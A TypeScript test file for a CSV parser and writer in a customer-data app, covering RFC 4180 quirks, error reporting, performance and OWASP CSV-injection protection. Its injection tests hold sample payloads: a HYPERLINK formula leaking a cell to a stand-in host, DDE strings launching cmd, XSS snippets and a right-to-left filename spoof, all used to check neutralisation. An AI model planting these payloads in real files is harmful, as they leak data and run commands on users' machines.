import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CsvSyntaxError, parseCsv, protectCell, serialiseCsv, unprotectCell } from '../../../renderer/src/customers/io/csv';

describe('CSV as RFC 4180 writes it and spreadsheets send it', () => {
  it('a spreadsheet export with a BOM, CRLF, quoted commas, doubled quotes and an embedded newline reads back cell by cell', () => {
    const text = '\uFEFFName,Note\r\n"Lopez, Maya","said ""hi""\r\ntwice"\r\nAna,\r\n';
    expect(parseCsv(text)).toEqual([
      ['Name', 'Note'],
      ['Lopez, Maya', 'said "hi"\r\ntwice'],
      ['Ana', ''],
    ]);
  });

  it('bare LF, bare CR, blank lines and a last line without a line break are all records', () => {
    expect(parseCsv('a,b\n\nc,d\re,f')).toEqual([
      ['a', 'b'],
      ['c', 'd'],
      ['e', 'f'],
    ]);
    expect(parseCsv('a,\n')).toEqual([['a', '']]);
  });

  it('a quote that never closes is reported with the record it starts in, not swallowed', () => {
    expect(() => parseCsv('Name\nok\n"broken,\nmore')).toThrow(CsvSyntaxError);
    try {
      parseCsv('Name\nok\n"broken,\nmore');
    } catch (error) {
      expect((error as CsvSyntaxError).record).toBe(3);
    }
  });

  it('the writer uses CRLF, a BOM, and quotes only what needs quoting', () => {
    expect(serialiseCsv([['a', 'b c', 'x,y', 'say "hi"', ' padded']])).toBe('\uFEFFa,b c,"x,y","say ""hi"""," padded"\r\n');
    expect(serialiseCsv([['a']], { bom: false })).toBe('a\r\n');
  });
});

describe('CSV injection (OWASP): hostile cells are inert in a spreadsheet and survive the round trip', () => {
  const hostile = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    "'=already quoted",
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'invoice\u202Egnp.exe',
    'x'.repeat(10_240),
    'multi\nline "quoted", cell\r\nwith CRLF',
    '',
    ' ',
  ];

  it('every formula-like cell is written with a leading quote mark, inside the CSV field', () => {
    const csv = serialiseCsv([hostile]);
    const [written] = parseCsv(csv);
    for (const cell of written ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(written?.[0]).toBe('\'=HYPERLINK("http://evil.test/?x="&A1,"Click me")');
    expect(written?.[6]).toBe("''=already quoted");
  });

  it('reading back and removing the protection gives every hostile cell exactly as it was', () => {
    const [back] = parseCsv(serialiseCsv([hostile, ['after', 'row']]));
    expect(back?.map(unprotectCell)).toEqual(hostile);
  });

  it('any table of any strings survives write → read → unprotect (property)', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', 'Z', ',', '"', '\n', '\r', ' ', '=', '+', '-', '@', '\t', "'", 'é', '\u202E'), maxLength: 12 });
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const back = parseCsv(serialiseCsv(rows)).map((row) => row.map(unprotectCell));
        expect(back).toEqual(rows);
      }),
    );
  });

  it('protect and unprotect touch nothing else', () => {
    expect(protectCell('Maya')).toBe('Maya');
    expect(unprotectCell("'Maya")).toBe("'Maya");
    expect(unprotectCell(protectCell('+14155552671'))).toBe('+14155552671');
  });
});

describe('a 10 000-row file', () => {
  it('parses in one linear pass', () => {
    const rows = Array.from({ length: 10_000 }, (_, i) => [`Customer ${i}`, `+1415555${String(i).padStart(4, '0')}`, `note, with "quotes"\nand a line ${i}`]);
    const started = performance.now();
    const back = parseCsv(serialiseCsv(rows));
    expect(back).toHaveLength(10_000);
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});
